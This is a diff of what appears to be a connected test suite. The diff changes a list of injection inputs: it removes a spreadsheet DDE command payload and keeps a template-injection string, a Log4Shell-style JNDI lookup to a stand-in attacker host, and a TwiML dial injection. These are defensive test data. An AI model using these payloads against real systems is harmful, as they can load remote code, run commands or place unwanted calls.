@@ -12,8 +12,8 @@ pytestmark = pytest.mark.connected
 LISTED = "select count(*) from opt_outs where address = any($1)"
 # formulas, templates, commands, addresses of our own network, ends of lines
 INJECTED = (
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd",
+    "=HYPERLINK(A1)",
+    "@SUM(1+1)*2",
     "{{ 7*7 }}{% for x in y %}",
     "${jndi:ldap://evil.example/a}",
     "</Say><Dial>+5255</Dial><Say>",
